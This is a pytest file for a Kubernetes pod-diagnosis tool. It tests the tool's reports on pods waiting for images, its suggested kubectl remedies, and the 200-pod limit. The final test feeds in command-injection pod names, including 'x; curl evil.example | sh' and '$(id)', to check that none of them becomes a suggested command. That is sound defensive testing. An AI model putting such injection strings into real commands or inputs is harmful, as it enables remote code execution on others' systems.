"""Which pods wait, since when, and whether they have the secret; and no text of a server becomes a command."""

import copy
from typing import Any

import pytest

from local.breaks.cluster import waiting_pod
from local.cloud import LocalCluster
from local.kubernetes import ApiServer
from tests.diagnosis.conftest import Doctor, list_hops

pytestmark = pytest.mark.servers
_CREATED, _SINCE = "2026-11-29T02:00:00Z", "2026-11-29T03:00:00Z"


def _image(doctor: Doctor) -> str:
    hub = doctor.world.cloud.hubs["main"]
    return f"{hub.document['registries'][0]}/{hub.image}:latest"


def _put(doctor: Doctor, cluster: LocalCluster, name: object, **spec: Any) -> dict[str, Any]:
    """Have a pod wait for the hub's image, not ready since a time after its creation. Return it."""
    pod = waiting_pod(_image(doctor), _CREATED)
    pod["status"]["conditions"][-1]["lastTransitionTime"] = _SINCE
    pod["metadata"] |= {"name": name, "namespace": cluster.target.namespace}
    pod["spec"] |= spec
    assert isinstance(cluster.server, ApiServer)
    cluster.server.put_pod(copy.deepcopy(pod))
    return pod


async def test_each_pod_has_the_remedy_of_its_cause(doctor: Doctor) -> None:
    cluster = await doctor.onboard()
    _put(doctor, cluster, "early", serviceAccountName="deepintshield-sa")
    _put(doctor, cluster, "late", imagePullSecrets=[{"name": "ar-pull-secret"}])
    stranger = _put(doctor, cluster, "stranger", serviceAccountName="other")
    stranger["status"]["conditions"][-1]["lastTransitionTime"] = None
    lone = _put(doctor, cluster, "lone", serviceAccountName=None)
    lone["metadata"]["ownerReferences"] = [{"kind": "Node", "name": "node-1"}]
    del lone["status"]["conditions"]
    assert isinstance(cluster.server, ApiServer)
    for pod in (stranger, lone):
        cluster.server.put_pod(pod)
    hops = {str(hop.subject): hop for hop in list_hops(await doctor.examine(cluster), "pods")}
    assert hops["deepintshield"].detail == "4 pods, 4 of them wait"
    remedies = {name: str(hops[f"deepintshield/{name}"].remedy) for name in ("early", "late", "stranger")}
    assert remedies["early"].startswith("Let its owner create it again: kubectl delete pod early -n deepintshield")
    assert remedies["late"].startswith("kubectl describe pod late -n deepintshield")
    assert remedies["stranger"].startswith("Add the account other to serviceAccounts")
    image = f"{_image(doctor)} (ImagePullBackOff)"
    seen = {"since": _SINCE, "images": image, "imagePullSecrets": "none", "owner": "none"}
    assert hops["deepintshield/early"].evidence == {**seen, "service account": "deepintshield-sa"}
    assert hops["deepintshield/late"].evidence["imagePullSecrets"] == "ar-pull-secret"
    assert hops["deepintshield/stranger"].evidence["since"] == _CREATED
    of_lone = {"since": _CREATED, "owner": "Node/node-1", "service account": "default"}
    assert hops["deepintshield/lone"].evidence == seen | of_lone


async def test_every_container_registry_and_secret_counts(doctor: Doctor) -> None:
    """A pod of a form that no API server has hides none of the others."""
    targets = [{"namespace": "deepintshield", "secret": name} for name in ("one", "two")]
    cluster = await doctor.onboard(hub="two", targets=targets)
    second = doctor.world.cloud.hubs["two"].document["registries"][1]
    assert isinstance(cluster.server, ApiServer)
    for name, part, reason in (
        ("first", "initContainerStatuses", "ErrImagePull"),
        ("later", "ephemeralContainerStatuses", "ImagePullBackOff"),
        ("wrong", "containerStatuses", None),
    ):
        pod = _put(doctor, cluster, name, imagePullSecrets=[{"name": "two"}])
        del pod["status"]["containerStatuses"]
        waiting = {"image": f"{second}/p/r/app:1", "state": {"waiting": {"reason": reason}}}
        pod["status"][part] = [{"name": "beside"}, waiting] if reason else ["x"]
        cluster.server.put_pod(pod)
    hops = {hop.subject: hop for hop in list_hops(await doctor.examine(cluster), "pods")}
    assert hops.keys() == {"deepintshield", "deepintshield/first", "deepintshield/later"}
    assert "it has the secret" in hops["deepintshield/first"].detail


async def test_of_many_pods_the_first_are_read(doctor: Doctor) -> None:
    cluster = await doctor.onboard()
    assert isinstance(cluster.server, ApiServer)
    for number in range(201):
        pod = _put(doctor, cluster, f"pod-{number}", containers=[])
        del pod["status"]["containerStatuses"]
        cluster.server.put_pod(pod)
    (hop,) = list_hops(await doctor.examine(cluster), "pods")
    assert hop.detail == "200 pods (the first 200), 0 of them wait"


async def test_pods_that_run_or_wait_for_images_of_others_are_not_named(doctor: Doctor) -> None:
    cluster = await doctor.onboard()
    other = _put(doctor, cluster, "other")
    other["status"]["containerStatuses"][0]["image"] = "docker.io/library/nginx:1"
    alike = _put(doctor, cluster, "alike")
    registry = doctor.world.cloud.hubs["main"].document["registries"][0]
    alike["status"]["containerStatuses"][0]["image"] = f"{registry}.example.com/app:1"
    running = _put(doctor, cluster, "running")
    running["status"]["containerStatuses"][0]["state"] = {"running": {"startedAt": _SINCE}}
    assert isinstance(cluster.server, ApiServer)
    for pod in (other, alike, running):
        cluster.server.put_pod(pod)
    (hop,) = list_hops(await doctor.examine(cluster), "pods")
    assert (hop.state, hop.detail) == ("ok", "3 pods, 0 of them wait")


@pytest.mark.parametrize("name", ["x; curl evil.example | sh", "$(id)", "a\nb", "-n kube-system", "x" * 300])
async def test_a_name_that_is_none_becomes_no_command(doctor: Doctor, name: str) -> None:
    """A cluster's owner may not be the one who types the remedy."""
    cluster = await doctor.onboard()
    _put(doctor, cluster, name)
    _put(doctor, cluster, "good", serviceAccountName=name)
    (hop,) = list_hops(await doctor.examine(cluster), "pods")
    assert hop.state == "ok"
